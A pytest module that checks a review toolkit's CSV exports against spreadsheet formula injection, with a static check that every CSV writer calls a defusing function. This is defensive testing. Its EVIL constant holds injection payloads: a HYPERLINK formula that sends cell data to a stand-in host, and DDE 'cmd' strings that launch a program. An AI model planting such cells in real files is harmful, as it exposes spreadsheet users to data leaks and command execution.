"""No table that leaves the project holds a cell that a spreadsheet would run."""

from __future__ import annotations

import ast
import csv
import re
import shutil
from pathlib import Path

import pytest

from reviewkit.exports.metafor import write_metafor
from reviewkit.exports.revman import write_revman
from reviewkit.report.opened import Report
from reviewkit.review import open_review
from reviewkit.tables import read_csv, write_csv

ROOT = Path(__file__).resolve().parents[2]
QUESTION = "b12-ms"
EVIL = ('=HYPERLINK("https://example.org/?"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd")
NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?\Z")
FREE_TEXT = {
    "studies.csv": ("label", "country", "arms", "comparator", "funding", "locator", "note"),
    "extraction/demo-a.csv": ("comparison", "arm", "instrument", "unit", "as_printed", "locator", "note"),
    "published.csv": ("review", "about", "as_printed", "why", "locator", "note"),
}


def dangerous(path: Path) -> list[str]:
    with path.open(encoding="utf-8", newline="") as stream:
        return [f"{path.name}: {cell[:60]}" for row in csv.reader(stream) for cell in row
                if cell.startswith(("=", "+", "-", "@", "\t", "\r")) and not NUMBER.match(cell)]


def poison(path: Path, columns: tuple[str, ...]) -> None:
    """Begin free text of a table as a formula would; what stood there stays behind it, so that rows stay apart."""
    with path.open(encoding="utf-8", newline="") as stream:
        names = next(csv.reader(stream))
    rows = []
    for place, row in enumerate(read_csv(path, names)):
        rows.append({**row.cells, **{name: f"{EVIL[place % len(EVIL)]} {row.cells[name]}" for name in columns
                                     if row.cells.get(name)}})
    write_csv(path, names, rows)


@pytest.fixture(scope="module")
def project(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("hostile")
    for kind in ("data", "references"):
        shutil.copytree(ROOT / kind / QUESTION, folder / kind / QUESTION)
    for name, columns in FREE_TEXT.items():
        poison(folder / "data" / QUESTION / name, columns)
    (folder / "data" / "claims.toml").write_text((ROOT / "data" / "claims.toml").read_text(encoding="utf-8"), "utf-8")
    return folder


@pytest.mark.slow
def test_every_table_of_a_hostile_review_is_defused(project: Path, tmp_path: Path) -> None:
    review = open_review(QUESTION, project)
    assert any(study.label.startswith("=HYPERLINK") for study in review.studies)
    Report(review).save(str(tmp_path / "report"))
    write_metafor(review, tmp_path / "metafor")
    write_revman(review, tmp_path / "revman")
    tables = sorted(tmp_path.rglob("*.csv"))
    names = {path.name for path in tables}
    assert {"included.csv", "extraction.csv", "effects.csv", "plan.csv", f"{QUESTION}-data-rows.csv"} <= names
    assert [found for path in tables for found in dangerous(path)] == []
    # They did reach the tables: defused, not dropped.
    assert sum("'=HYPERLINK" in path.read_text(encoding="utf-8") for path in tables) >= 4


@pytest.mark.slow
def test_tables_are_written_through_one_door() -> None:
    """A csv writer of one's own defuses nothing: whatever has one must call `defused`."""
    for path in sorted((ROOT / "reviewkit").rglob("*.py")):
        source = path.read_text(encoding="utf-8")
        calls = [node for node in ast.walk(ast.parse(source)) if isinstance(node, ast.Attribute)
                 and node.attr in ("writer", "DictWriter", "to_csv")
                 and isinstance(node.value, ast.Name) and node.value.id in ("csv", "pd", "pandas", "frame", "table")]
        assert not calls or "defused(" in source, path.relative_to(ROOT)
